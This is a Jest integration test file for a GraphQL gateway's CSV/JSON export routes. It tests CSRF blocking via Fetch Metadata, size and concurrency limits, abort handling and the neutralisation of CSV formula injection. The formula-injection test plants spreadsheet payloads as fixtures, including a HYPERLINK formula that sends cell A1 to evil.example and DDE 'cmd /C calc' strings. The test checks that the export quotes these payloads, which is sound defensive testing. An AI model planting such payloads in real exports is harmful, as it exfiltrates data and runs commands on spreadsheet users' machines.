import { request, type IncomingMessage } from 'node:http';
import { buffer } from 'node:stream/consumers';
import { stringify } from 'csv-stringify/sync';
import { createGatewayService } from '@civic/gateway/server';
import { BACKENDS, startSystem, type GraphQLResponse, type System } from '../support/system';
import { csvRows, exportUrl, gatedProxy, readAll } from '../support/export';
import { withEnv } from '../support/with-env';

/**
 * Exports bounded and guarded (issue 10), against the whole system: CSRF prevention as Apollo's for
 * /graphql (with Fetch Metadata), the column, byte and anonymous row limits, concurrent exports per client,
 * formula injection neutralised in CSV cells (numbers left alone), and the paging stopped when the client
 * goes away, counted at the subgraph.
 */

let sys: System;
const opened: { stop(): Promise<void> }[] = [];

beforeAll(async () => {
  sys = await startSystem(BACKENDS[0]);
});
afterEach(async () => {
  for (const o of opened.splice(0).reverse()) await o.stop();
});
afterAll(async () => {
  await sys?.stop();
});

const base = (sys: System) => sys.gatewayUrl.replace(/\/graphql$/, '');

/**
 * Another gateway over the system's subgraphs (organizations possibly through another URL), built with these
 * environment variables set as in production (the export routes read their limits when built), on port 0.
 */
async function gatewayWith(env: Record<string, string>, organizationsUrl?: string): Promise<string> {
  const service = await withEnv(env, () =>
    createGatewayService({
      subgraphUrls: { ...sys.subgraphUrls, ...(organizationsUrl ? { organizations: organizationsUrl } : {}) },
    }),
  );
  opened.push(service);
  return (await service.listen(0, '127.0.0.1')).url.replace(/\/graphql$/, '');
}

const TN_ORGANIZATIONS = { name: 'organizations', variables: { filter: { country: 'TN' } } };
const SILIANA = { name: 'organizations', variables: { filter: { parentId: 'tn-governorate-siliana' } } };
const TN_QUERY = /* GraphQL */ `
  {
    organizations(first: 50, filter: { country: "TN" }) {
      nodes {
        id
        name
      }
    }
  }
`;

/** What a browser sends, by Fetch Metadata, for an `<img src>` and for a followed link on another site. */
const FROM_IMG = { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'image' };
const FROM_LINK = {
  'sec-fetch-site': 'cross-site',
  'sec-fetch-mode': 'navigate',
  'sec-fetch-dest': 'document',
  'sec-fetch-user': '?1',
};

describe('CSRF prevention on the exports (as Apollo’s on /graphql, with Fetch Metadata)', () => {
  /**
   * Asks for an export with exactly these headers, as a browser would send them (with node:http: fetch
   * replaces Sec-Fetch-Mode with its own); on a refusal, checks that no statement reached a subgraph's database.
   */
  async function ask(
    url: string,
    init: { method?: string; headers?: Record<string, string>; body?: string } = {},
  ): Promise<{ status: number; body: string }> {
    const before = sys.counters.organizations.total;
    const res = await new Promise<IncomingMessage>((resolve, reject) => {
      const req = request(url, { method: init.method ?? 'GET', headers: init.headers }, resolve);
      req.on('error', reject);
      req.end(init.body);
    });
    const body = (await buffer(res)).toString('utf8');
    if (res.statusCode !== 200) expect(sys.counters.organizations.total).toBe(before);
    return { status: res.statusCode!, body };
  }
  const blocked =
    /^This (export|download of a saved query) was blocked as a potential cross-site request forgery \(CSRF\).*Send the header `apollo-require-preflight: true`/;

  test('a foreign page’s <img> or link cannot run a query export; the preflight header can', async () => {
    const url = exportUrl(base(sys), 'csv', { query: TN_QUERY });
    for (const headers of [FROM_IMG, FROM_LINK, { ...FROM_LINK, 'sec-fetch-site': 'same-site' }]) {
      const refused = await ask(url, { headers });
      expect({ headers, status: refused.status }).toEqual({ headers, status: 400 });
      const { errors } = JSON.parse(refused.body);
      expect(errors).toEqual([
        { message: expect.stringMatching(blocked), extensions: { code: 'BAD_REQUEST' } },
      ]);
      expect(errors[0].message).toContain(`(Sec-Fetch-Site: ${headers['sec-fetch-site']})`);
    }
    // A form posting text/plain is not preflighted either; a JSON POST is.
    const form = await ask(`${base(sys)}/export.csv`, {
      method: 'POST',
      headers: { ...FROM_LINK, 'content-type': 'text/plain' },
      body: JSON.stringify({ query: TN_QUERY }),
    });
    expect(form.status).toBe(400);
    expect(JSON.parse(form.body).errors[0].message).toMatch(blocked);

    // What a page can only send when the gateway's CORS policy allows it: the export runs.
    for (const headers of [
      { ...FROM_IMG, 'apollo-require-preflight': 'true' },
      { ...FROM_IMG, 'x-apollo-operation-name': 'Tunisia' },
    ]) {
      const allowed = await ask(url, { headers });
      expect({ headers, status: allowed.status }).toEqual({ headers, status: 200 });
      expect(csvRows(allowed.body).length).toBeGreaterThan(200);
    }
    const json = await ask(`${base(sys)}/export.csv`, {
      method: 'POST',
      headers: { ...FROM_LINK, 'content-type': 'application/json' },
      body: JSON.stringify({ query: TN_QUERY }),
    });
    expect(json.status).toBe(200);
  });

  test('the visitor’s own requests pass: the gateway’s own page, a typed address, curl and scripts', async () => {
    const url = exportUrl(base(sys), 'csv', { query: TN_QUERY });
    for (const headers of <Record<string, string>[]>[
      { 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' },
      { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' },
      { 'user-agent': 'curl/8.5.0' },
    ]) {
      const res = await ask(url, { headers });
      expect({ headers, status: res.status }).toEqual({ headers, status: 200 });
    }
  });

  test('a saved query stays downloadable by a link from another site, but not by an <img>', async () => {
    const url = exportUrl(base(sys), 'csv', SILIANA);
    const link = await ask(url, { headers: FROM_LINK });
    expect(link).toEqual({ status: 200, body: expect.any(String) });
    expect(csvRows(link.body).length).toBeGreaterThan(5);
    const img = await ask(url, { headers: FROM_IMG });
    expect(img.status).toBe(400);
    expect(JSON.parse(img.body).errors[0].message).toMatch(/^This download of a saved query was blocked/);
  });

  test('EXPORT_CSRF=require-header: every query export needs the header, as a GET to /graphql does', async () => {
    const root = await gatewayWith({ EXPORT_CSRF: 'require-header' });
    const url = exportUrl(root, 'json', { query: TN_QUERY });
    const plain = await ask(url, { headers: { 'user-agent': 'curl/8.5.0' } });
    expect(plain.status).toBe(400);
    expect(JSON.parse(plain.body).errors[0].message).toMatch(
      /^This export was blocked .*\(EXPORT_CSRF=require-header\)\. Send the header `apollo-require-preflight: true`/,
    );
    // /graphql itself answers such a GET the same way.
    const graphqlGet = await fetch(`${root}/graphql?query=${encodeURIComponent(TN_QUERY)}`);
    expect(graphqlGet.status).toBe(400);
    expect(await graphqlGet.text()).toMatch(/Cross-Site Request Forgery/);

    const withHeader = await ask(url, { headers: { 'apollo-require-preflight': 'true' } });
    expect(withHeader.status).toBe(200);
    expect(JSON.parse(withHeader.body).length).toBeGreaterThan(200);
    // Saved queries keep their plain links.
    expect((await ask(exportUrl(root, 'csv', SILIANA))).status).toBe(200);
  });
});

describe('limits', () => {
  /** `fragment F<i> on Organization { a: parent { ...F<i+1> } b: parent { ...F<i+1> } }`: 2^levels columns. */
  function fanOut(levels: number): string {
    const fragments = Array.from({ length: levels }, (_, i) =>
      i === levels - 1
        ? `fragment F${i} on Organization { a: id b: name }`
        : `fragment F${i} on Organization { a: parent { ...F${i + 1} } b: parent { ...F${i + 1} } }`,
    );
    return `{ organizations(first: 10) { nodes { ...F0 } } }\n${fragments.join('\n')}`;
  }

  test('the issue’s 4,096-column query is refused before any page runs, naming the limit and the count', async () => {
    const query = fanOut(12);
    expect(query.length).toBeLessThan(1000);
    const before = sys.counters.organizations.total;
    for (const format of ['csv', 'json'] as const) {
      const res = await fetch(exportUrl(base(sys), format, { query }));
      expect(res.status).toBe(400);
      expect(await res.json()).toEqual({
        errors: [
          {
            message:
              'This export would have 4096 columns, more than the 256 one export may have (EXPORT_MAX_COLUMNS; ' +
              'a column is a field without sub-fields, counted through aliases and fragments): select fewer fields',
            extensions: { code: 'EXPORT_TOO_WIDE', limit: 256, measured: 4096 },
          },
        ],
      });
    }
    // A fan-out of 2^40 columns costs no more to refuse: the count stops at 16 times the limit.
    const huge = await fetch(exportUrl(base(sys), 'csv', { query: fanOut(40) }));
    expect(huge.status).toBe(400);
    expect((await huge.json()).errors[0].message).toMatch(
      /^This export would have over 4096 columns, more than the 256 /,
    );
    expect(sys.counters.organizations.total).toBe(before);

    // EXPORT_MAX_COLUMNS=4: 4 columns run, 8 are refused.
    const root = await gatewayWith({ EXPORT_MAX_COLUMNS: '4' });
    const four = await fetch(exportUrl(root, 'csv', { query: fanOut(2) }));
    expect(four.status).toBe(200);
    expect((await four.text()).split('\r\n')[0]).toBe('a.a,a.b,b.a,b.b');
    const eight = await fetch(exportUrl(root, 'csv', { query: fanOut(3) }));
    expect(eight.status).toBe(400);
    expect((await eight.json()).errors[0].message).toMatch(
      /^This export would have 8 columns, more than the 4 /,
    );
  });

  test('anonymous callers get EXPORT_ANONYMOUS_MAX_ROWS (default 100,000) under EXPORT_MAX_ROWS', async () => {
    const small = await fetch(exportUrl(base(sys), 'csv', SILIANA));
    expect(small.status).toBe(200);
    expect(small.headers.get('x-export-max-rows')).toBe('100000');
    await small.arrayBuffer();

    const root = await gatewayWith({ EXPORT_ANONYMOUS_MAX_ROWS: '100' });
    const refused = await fetch(exportUrl(root, 'csv', TN_ORGANIZATIONS));
    expect(refused.status).toBe(400);
    const { errors } = await refused.json();
    expect(errors[0].message).toMatch(
      /^This export would have \d{3,} rows, more than the 100 one anonymous export may have \(EXPORT_ANONYMOUS_MAX_ROWS\): narrow it with a filter/,
    );
    const fits = await fetch(exportUrl(root, 'csv', SILIANA));
    expect(fits.status).toBe(200);
    expect(fits.headers.get('x-export-max-rows')).toBe('100');
    expect(csvRows(await fits.text()).length).toBeLessThanOrEqual(100);
  });

  test('bytes: an export estimated over EXPORT_MAX_BYTES is refused before anything is sent', async () => {
    const root = await gatewayWith({ EXPORT_MAX_BYTES: '20000' });
    for (const format of ['csv', 'json'] as const) {
      const res = await fetch(exportUrl(root, format, TN_ORGANIZATIONS));
      expect(res.status).toBe(400);
      expect(await res.json()).toEqual({
        errors: [
          {
            message: expect.stringMatching(
              /^This export would be about \d{6,} bytes \(\d+ rows\), more than the 20000 bytes one export may have \(EXPORT_MAX_BYTES\)/,
            ),
            extensions: { code: 'EXPORT_TOO_LARGE', limit: 20000 },
          },
        ],
      });
    }
    const small = await fetch(exportUrl(root, 'csv', SILIANA));
    expect(small.status).toBe(200);
    expect(small.headers.get('x-export-max-bytes')).toBe('20000');
    await small.arrayBuffer();
  });

  test('HEAD gives the headers (X-Total-Count, the limits) for the cost of one page', async () => {
    const proxy = await gatedProxy(sys.subgraphUrls.organizations, opened);
    const root = await gatewayWith({}, proxy.url);
    const query = '{ organizations(first: 1, filter: { country: "TN" }) { nodes { id } } }';
    const res = await fetch(exportUrl(root, 'csv', { query }), { method: 'HEAD' });
    expect(res.status).toBe(200);
    expect(Number(res.headers.get('x-total-count'))).toBeGreaterThan(200);
    expect(res.headers.get('x-export-max-rows')).toBe('100000');
    expect(proxy.count).toBe(1);
  });

  test('bytes: an export that reaches EXPORT_MAX_BYTES while streaming is cut there, never looking whole', async () => {
    // One row per page, ordered so that the first row is shorter than the average: the estimate from the
    // first page is then under what the rows really take, and a limit between the two is met while streaming.
    const rows = async (direction: 'ASC' | 'DESC') => {
      const all: { id: string; name: string }[] = [];
      let after: string | null = null;
      for (;;) {
        const res: GraphQLResponse<any> = await sys.queryGateway<any>(
          /* GraphQL */ `
            query ($after: String, $direction: OrderDirection) {
              organizations(
                first: 100
                after: $after
                filter: { country: "TN" }
                orderBy: [{ field: NAME, direction: $direction }]
              ) {
                nodes {
                  id
                  name
                }
                pageInfo {
                  hasNextPage
                  endCursor
                }
              }
            }
          `,
          { after, direction },
        );
        expect(res.errors).toBeUndefined();
        all.push(...res.data!.organizations.nodes);
        if (!res.data!.organizations.pageInfo.hasNextPage) return all;
        after = res.data!.organizations.pageInfo.endCursor;
      }
    };
    const size = (cells: string[]) =>
      Buffer.byteLength(stringify([cells], { record_delimiter: 'windows', quote_record_delimiter: true }));
    const header = size(['id', 'name']);
    const candidates = await Promise.all(
      (['ASC', 'DESC'] as const).map(async (direction) => {
        const nodes = await rows(direction);
        const sizes = nodes.map((n) => size([n.id, n.name]));
        return {
          direction,
          estimate: header + sizes[0] * nodes.length,
          actual: header + sizes.reduce((a, b) => a + b, 0),
        };
      }),
    );
    const chosen = candidates.sort((x, y) => x.estimate / x.actual - y.estimate / y.actual)[0];
    expect(chosen.actual - chosen.estimate).toBeGreaterThan(100);
    const cap = Math.floor((chosen.estimate + chosen.actual) / 2);

    const root = await gatewayWith({ EXPORT_MAX_BYTES: String(cap) });
    const query = `{ organizations(first: 1, filter: { country: "TN" }, orderBy: [{ field: NAME, direction: ${chosen.direction} }]) { nodes { id name } } }`;
    const res = await fetch(exportUrl(root, 'csv', { query }));
    expect(res.status).toBe(200);
    expect(res.headers.get('x-export-max-bytes')).toBe(String(cap));
    const { bytes, outcome } = await readAll(res);
    expect(outcome).toMatch(/^cut/);
    expect(bytes.length).toBeLessThanOrEqual(cap);
    // Whole records up to the limit, nothing else (no error text in the file).
    const text = bytes.toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(csvRows(text).length).toBeGreaterThan(1);
    expect(text).not.toMatch(/EXPORT_MAX_BYTES|error/i);
  });
});

describe('formula injection', () => {
  test('text starting with = + - @ or a tab is quoted in CSV; a negative amount stays a number; JSON is untouched', async () => {
    const lineId = 'tn-34012-2018-EXP-1.01100.0001.000';
    const budgets = sys.dataSources.budgets;
    const labels = {
      labelFr: '=HYPERLINK("https://evil.example/?"&A1,"Cliquez ici")',
      labelEn: "-2+3+cmd|' /C calc'!A0",
      labelAr: "@SUM(1+1)*cmd|' /C calc'!A0",
      labelEs: '\t=1+1',
    };
    await budgets.getRepository('BudgetLine').update({ id: lineId }, labels);
    await budgets
      .getRepository('BudgetAmount')
      .update({ lineId, phase: 'APPROVED' }, { amountMinor: -12500 });

    const variables = { filter: { budgetId: 'tn-34012-2018' } };
    const gql = await sys.queryGateway<any>(
      `{ budgetLine(id: "${lineId}") { label labels { ar fr en es } amounts { phase amount { amount } } } }`,
      undefined,
      { 'accept-language': 'fr' },
    );
    const amounts: { phase: string; amount: { amount: string } }[] = gql.data!.budgetLine.amounts;
    expect(amounts.find((a) => a.phase === 'APPROVED')!.amount.amount).toBe('-12.500');

    const csv = await fetch(exportUrl(base(sys), 'csv', { name: 'budget-lines', variables }), {
      headers: { 'accept-language': 'fr' },
    });
    expect(csv.status).toBe(200);
    const line = csvRows(await csv.text()).find((r) => r.id === lineId)!;
    expect(line).toMatchObject({
      label: `'${labels.labelFr}`,
      'labels.fr': `'${labels.labelFr}`,
      'labels.en': `'${labels.labelEn}`,
      'labels.ar': `'${labels.labelAr}`,
      'labels.es': `'${labels.labelEs}`,
      // Amounts are numbers (Money.amount), decided by the column, not by how the text looks.
      'amounts.amount.amount': amounts.map((a) => a.amount.amount).join('; '),
      'budget.fiscalYear': '2018',
    });
    expect(line['amounts.amount.amount']).toContain('-12.500');
    expect(line['amounts.amount.amount']).not.toContain("'");

    // A line whose only amount is negative: its cell starts with "-" and is left as it is.
    const onlyNegative = (await budgets.query(
      "SELECT line_id FROM budget_amounts WHERE line_id LIKE 'tn-34012-2018-%' GROUP BY line_id HAVING COUNT(*) = 1 LIMIT 1",
    )) as { line_id: string }[];
    const single = onlyNegative[0].line_id;
    await budgets.getRepository('BudgetAmount').update({ lineId: single }, { amountMinor: -7250 });
    const again = await fetch(exportUrl(base(sys), 'csv', { name: 'budget-lines', variables }));
    const row = csvRows(await again.text()).find((r) => r.id === single)!;
    expect(row['amounts.amount.amount']).toBe('-7.250');

    // JSON is data for programs, not a spreadsheet: values exactly as GraphQL gives them.
    const json = await fetch(exportUrl(base(sys), 'json', { name: 'budget-lines', variables }));
    const node = ((await json.json()) as any[]).find((n) => n.id === lineId);
    expect(node.labels).toEqual({
      fr: labels.labelFr,
      en: labels.labelEn,
      ar: labels.labelAr,
      es: labels.labelEs,
    });
  });
});

describe('the work an export does is bounded', () => {
  /** A small export of another subgraph (commitments): it never reaches the organizations proxy. */
  const OTHER = { query: '{ commitments(first: 100, filter: { country: "TN" }) { nodes { id } } }' };

  test('a client going away stops the paging: not one more page is asked of the subgraph', async () => {
    const proxy = await gatedProxy(sys.subgraphUrls.organizations, opened);
    const root = await gatewayWith({ EXPORT_MAX_CONCURRENT_PER_CLIENT: '1' }, proxy.url);
    // One row per page: a whole export would be hundreds of requests to the organizations subgraph.
    const query = '{ organizations(first: 1, filter: { country: "TN" }) { nodes { id name } } }';
    // The gateway reads a little ahead of the client: the third page is held at the proxy while it leaves.
    proxy.hold(3);
    const client = new AbortController();
    const res = await fetch(exportUrl(root, 'csv', { query }), { signal: client.signal });
    expect(res.status).toBe(200);
    expect(Number(res.headers.get('x-total-count'))).toBeGreaterThan(200);
    await proxy.arrived(3);
    client.abort();
    await res.body!.cancel().catch(() => undefined);
    proxy.release();

    // The client's slot (one at a time here) is given back only once the export's paging has stopped.
    for (;;) {
      const other = await fetch(exportUrl(root, 'csv', OTHER));
      await other.arrayBuffer();
      if (other.status !== 429) {
        expect(other.status).toBe(200);
        break;
      }
      await new Promise((resolve) => setTimeout(resolve, 25));
    }
    // Three pages asked for, the third while the client was leaving; none after it.
    expect(proxy.count).toBe(3);
  });

  test('a client may run EXPORT_MAX_CONCURRENT_PER_CLIENT exports at once (default 2); one more gets 429', async () => {
    const proxy = await gatedProxy(sys.subgraphUrls.organizations, opened);
    const root = await gatewayWith({}, proxy.url);
    proxy.hold();
    // Two different exports: two identical ones in flight at once would share their subgraph calls (the gateway
    // deduplicates identical queries), and only one would reach the proxy.
    const first = fetch(exportUrl(root, 'csv', SILIANA));
    const second = fetch(exportUrl(root, 'json', { query: TN_QUERY }));
    await proxy.arrived(2);

    const third = await fetch(exportUrl(root, 'csv', OTHER));
    expect(third.status).toBe(429);
    expect(third.headers.get('retry-after')).toBe('10');
    expect(await third.json()).toEqual({
      errors: [
        {
          message:
            'You are already running 2 exports, the most one client may run at once ' +
            '(EXPORT_MAX_CONCURRENT_PER_CLIENT): wait for one to finish, then try again',
          extensions: { code: 'TOO_MANY_EXPORTS', limit: 2 },
        },
      ],
    });

    proxy.release();
    for (const res of await Promise.all([first, second])) {
      expect(res.status).toBe(200);
      await res.arrayBuffer();
    }
    const after = await fetch(exportUrl(root, 'csv', OTHER));
    expect(after.status).toBe(200);
    await after.arrayBuffer();
  });
});
